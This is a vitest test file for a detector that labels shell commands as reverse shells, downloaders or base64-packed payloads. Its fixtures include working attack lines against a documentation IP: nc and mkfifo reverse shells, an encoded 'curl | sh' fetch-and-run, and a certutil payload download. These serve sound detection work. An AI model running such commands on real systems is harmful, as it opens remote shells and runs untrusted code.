// The cases of service-shell, and what commands tell.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CaseRunner, casesBeside, openCaseRunner, sortedFindings } from '../case-runner.ts';
import { addressesIn, type Sign, signsOf } from './commands.ts';
import { detector } from './detector.ts';

let runner: CaseRunner;
beforeAll(async () => {
  runner = await openCaseRunner();
});
afterAll(() => runner.close());

describe('service-shell on its cases', () => {
  it.each(casesBeside(import.meta.url))('$name: $expected.story', async (given) => {
    const findings = sortedFindings(await runner.run(detector, given));
    expect(findings).toMatchObject(given.expected.findings);
    expect(findings).toHaveLength(given.expected.findings.length);
    for (const finding of findings) expect(await runner.countSelected(finding)).toBe(finding.event_count);
  });
});

const packed = (text: string, encoding: 'utf8' | 'utf16le') => Buffer.from(text, encoding).toString('base64');

it.each<[string, readonly Sign[]]>([
  ['nc 198.51.100.9 443 -e /bin/sh', ['connects a shell']],
  ["python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)'", ['connects a shell']],
  [
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.9 9 >/tmp/f',
    ['connects a shell', 'interactive'],
  ],
  [`powershell -enc ${packed('whoami /all; Get-Process', 'utf16le')}`, ['packed']],
  [`echo ${packed('curl http://198.51.100.9/x | sh', 'utf8')} | base64 -d | sh`, ['packed', 'downloads']],
  ['certutil.exe -urlcache -f http://198.51.100.9/a.exe a.exe', ['downloads']],
  ['sh -c "curl -s https://updates.example/list"', ['downloads']],
  ['bash -c "convert a.png b.png"', []],
  ['sh -c "/usr/bin/env -i php cron.php"', []],
  ['cmd /c dir', []],
  ['bash /opt/app/start-interactive.sh', []],
])('%s tells %j', (command, signs) => {
  expect(signsOf(command)).toEqual(signs);
});

it('reads addresses out of what is packed twice, and none that mean the machine itself', () => {
  const inner = packed('http://198.51.100.9:443', 'utf16le');
  const command = `powershell -enc ${packed(`$s='${inner}'; ping 127.0.0.1; ping 169.254.169.254`, 'utf16le')}`;
  expect(addressesIn(command)).toEqual(['198.51.100.9']);
});

it('ends on a command of nothing but packed text, however long', () => {
  const deep = packed(packed('x'.repeat(200_000), 'utf8'), 'utf8');
  expect(signsOf(`powershell -enc ${deep}`)).toEqual(['packed']);
});
